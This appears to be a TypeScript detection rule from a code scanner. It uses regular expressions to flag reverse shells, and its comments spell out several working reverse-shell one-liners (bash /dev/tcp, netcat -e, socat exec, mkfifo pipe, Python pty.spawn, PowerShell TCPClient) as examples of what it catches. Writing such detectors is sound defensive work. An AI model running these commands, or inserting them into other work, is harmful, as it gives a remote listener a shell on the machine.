import { lineRule } from './rule.js';

const SOCKET = String.raw`\bnet\.(?:Socket|connect)\b|\bcreateConnection\b|\bfsockopen\s*\(|\bTCPSocket\b|\bIO::Socket\b|(?<![\w.])socket\s*\(|\bsocket\.socket\s*\(`;
const A_SHELL = String.raw`["'\s(](?:/bin/)?(?:ba|z|k|da)?sh(?:\s+-i)?(?:["'\s)]|$)|\bcmd\.exe\b|\bpowershell(?:\.exe)?\b`;

const PATTERNS: readonly RegExp[] = [
  // bash -i >& /dev/tcp/host/4444 0>&1
  /\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+/,
  // nc -e /bin/sh host 4444, ncat --exec, nc host 4444 -c bash
  /\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^|;&\n]*\s(?:-[a-zA-Z]*[ec]\b|--(?:sh-|lua-)?exec\b)/,
  // socat tcp:host:4444 exec:/bin/sh
  /\bsocat\b[^\n]*\b(?:exec|system):/i,
  // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f
  /\bmkfifo\b[^\n]*\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b/,
  // python -c 'import socket,os,pty; s=socket.socket(); s.connect((h,p)); os.dup2(s.fileno(),0); pty.spawn("/bin/sh")'
  /\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)/,
  /\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']/,
  // PowerShell: New-Object System.Net.Sockets.TCPClient(h, p) … GetStream()
  /Net\.Sockets\.TCPClient\b[^\n]*\bGetStream\b/i,
  // Any language: a socket opened and a shell started on the same line (Node's net.Socket, PHP's
  // fsockopen, Ruby's TCPSocket, Perl's IO::Socket or socket(), Python's socket.socket).
  new RegExp(String.raw`(?:${SOCKET})[^\n]*(?:${A_SHELL})|(?:${A_SHELL})[^\n]*(?:${SOCKET})`),
];

/** A shell handed to a network connection: whoever listens gets the runner. */
export const reverseShell = lineRule({
  id: 'reverse-shell',
  code: true,
  quick: /\/dev\/(?:tcp|udp)|\bn(?:c|cat|etcat)\b|socat|mkfifo|dup2|pty\.spawn|TCPClient|net\.Socket|net\.connect|createConnection|fsockopen|TCPSocket|IO::Socket|socket/i,
  match: (text) => (PATTERNS.some((pattern) => pattern.test(text)) ? 'a shell handed to a network connection (a reverse shell): whoever listens on the other end gets a shell on the machine that runs it' : null),
});
